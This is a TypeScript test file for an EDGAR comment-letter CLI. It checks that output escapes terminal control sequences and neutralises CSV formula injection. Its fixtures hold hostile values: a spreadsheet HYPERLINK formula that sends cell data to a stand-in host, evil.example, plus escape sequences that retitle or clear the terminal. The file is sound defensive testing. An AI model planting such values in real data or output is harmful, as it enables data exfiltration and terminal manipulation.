import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { runCli } from '../../../src/cli/program.ts';
import type { Letter } from '../../../src/letter/schema.ts';
import { openDocumentStore } from '../../../src/store/open-document-store.ts';
import { accessionFor, makeFilingRef, makeLetter } from '../../fixtures/letters.ts';

/** Every control character a terminal acts on (C0 but newline and tab, DEL, C1). */
// eslint-disable-next-line no-control-regex -- control characters are what this matches
const CONTROL = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F]/;
const ESC = '\u001b';

/** Hostile letters: escape sequences, BEL, NUL, C1 controls in their text, and formulas for spreadsheets. */
const HOSTILE: Letter[] = [
  makeLetter({
    accessionNumber: accessionFor(1),
    companyName: `=HYPERLINK("http://evil.example/?x="&A1,"click")${ESC}]0;pwned\u0007`,
    text: `Dear Staff:${ESC}[2J${ESC}[31m revenue recognition\u0000 hidden\u0007 and \u009b31m C1 too\r overwritten`,
    items: [
      {
        number: 1,
        headings: [`Revenue${ESC}[1m`],
        pageRef: null,
        comment: `We note your revenue ${ESC}[8mconcealed`,
        response: 'The Company respectfully advises the Staff.',
        priorComments: [],
        topics: ['revenue'],
        authorities: [],
      },
    ],
  }),
  makeLetter({ accessionNumber: accessionFor(2), companyName: '+1-555 Holdings', filingDate: '2014-01-04' }),
  makeLetter({ accessionNumber: accessionFor(3), companyName: '-2+3 Partners', filingDate: '2014-01-05' }),
  makeLetter({ accessionNumber: accessionFor(4), companyName: '@SUM(A1:A9) Corp', filingDate: '2014-01-06' }),
  makeLetter({ accessionNumber: accessionFor(5), companyName: '\tTabbed Inc', filingDate: '2014-01-07' }),
];

describe('output hygiene: letters never drive the terminal or a spreadsheet', () => {
  let dir: string;
  let env: NodeJS.ProcessEnv;

  const cli = async (args: string[]) => {
    let stdout = '';
    let stderr = '';
    const code = await runCli(args, {
      stdout: { write: (s: string) => (stdout += s) },
      stderr: { write: (s: string) => (stderr += s) },
      env,
    });
    return { code, stdout, stderr };
  };

  before(async () => {
    dir = await mkdtemp(join(tmpdir(), 'edgar-hygiene-'));
    env = { STORE_URL: `sqlite:${join(dir, 'store.sqlite')}`, ARCHIVE_DIR: join(dir, 'archive'), LOG_LEVEL: 'warn' };
    const store = await openDocumentStore(env.STORE_URL!);
    try {
      for (const letter of HOSTILE) await store.upsertLetter(letter);
      // A failed filing whose reason quotes the submission (a document name), and a note: both shown by status.
      const failed = accessionFor(9);
      await store.recordDiscovered([
        makeFilingRef({ accessionNumber: failed }),
        makeFilingRef({ accessionNumber: accessionFor(10) }),
      ]);
      await store.recordFailed(failed, {
        stage: 'parse',
        code: 'BAD_INPUT',
        badInputReason: 'broken-uuencode',
        reason: `broken-uuencode: document ${ESC}]0;evil${ESC}\\ x.pdf`,
      });
      await store.recordFetched(accessionFor(10), { sha256: 'a'.repeat(64), bytes: 1 });
      await store.recordHeld(
        accessionFor(10),
        { reason: 'not-attributed', fileNumbers: ['000-00001'], parserVersion: 'test' },
        `not attributed: concerns ${ESC}[5m000-1\u0007`,
      );
    } finally {
      await store.close();
    }
  });
  after(() => rm(dir, { recursive: true, force: true }));

  for (const args of [['show', accessionFor(1)], ['search', 'revenue'], ['thread', '001-35126'], ['status']]) {
    it(`\`${args.join(' ')}\` shows control characters as visible escapes, never raw`, async () => {
      const run = await cli(args);
      assert.equal(run.code, 0, run.stderr);
      assert.doesNotMatch(run.stdout, CONTROL);
      assert.doesNotMatch(run.stderr, CONTROL);
      assert.match(run.stdout, /\\x1B[[\]]/);
    });
  }

  it('`show` keeps the letter readable around the escapes, newlines and tabs kept', async () => {
    const run = await cli(['show', accessionFor(1)]);
    assert.match(
      run.stdout,
      /Dear Staff:\\x1B\[2J\\x1B\[31m revenue recognition\\x00 hidden\\x07 and \\x9B31m C1 too\\x0D overwritten/,
    );
    assert.match(run.stdout, /\n {4}comment: We note your revenue \\x1B\[8mconcealed/);
  });

  it('`export --format csv` neutralises cells a spreadsheet would run as formulas', async () => {
    const run = await cli(['export', '--format', 'csv']);
    assert.equal(run.code, 0, run.stderr);
    const rows = run.stdout.trimEnd().split('\r\n');
    assert.equal(rows.length, 1 + HOSTILE.length);
    assert.match(
      rows[1]!,
      /^0009999999-14-000001,CORRESP,1999001,"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1,""click""\)/,
    );
    assert.match(rows[2]!, /,'\+1-555 Holdings,/);
    assert.match(rows[3]!, /,'-2\+3 Partners,/);
    assert.match(rows[4]!, /,'@SUM\(A1:A9\) Corp,/);
    assert.match(rows[5]!, /,'\tTabbed Inc,/);
    // Numbers and identifiers are not touched: the file number 001-35126 and the item count stay as they are.
    assert.match(rows[2]!, /,001-35126,2013-12-17,1,/);
  });

  it('`export` JSONL stays exact: the same strings, escaped by JSON only', async () => {
    const run = await cli(['export']);
    assert.equal(run.code, 0, run.stderr);
    const letters = run.stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as Letter);
    const first = letters.find((l) => l.accessionNumber === accessionFor(1))!;
    assert.equal(first.companyName, HOSTILE[0]!.companyName);
    assert.equal(first.text, HOSTILE[0]!.text);
    assert.equal(letters.find((l) => l.accessionNumber === accessionFor(3))!.companyName, '-2+3 Partners');
    // JSON itself escapes the C0 controls (ESC as \u001b); DEL and C1 are valid JSON as they are.
    // eslint-disable-next-line no-control-regex -- control characters are what this matches
    assert.doesNotMatch(run.stdout, /[\u0000-\u0009\u000B-\u001F]/);
    assert.match(run.stdout, /\\u001b\[2J/);
  });
});
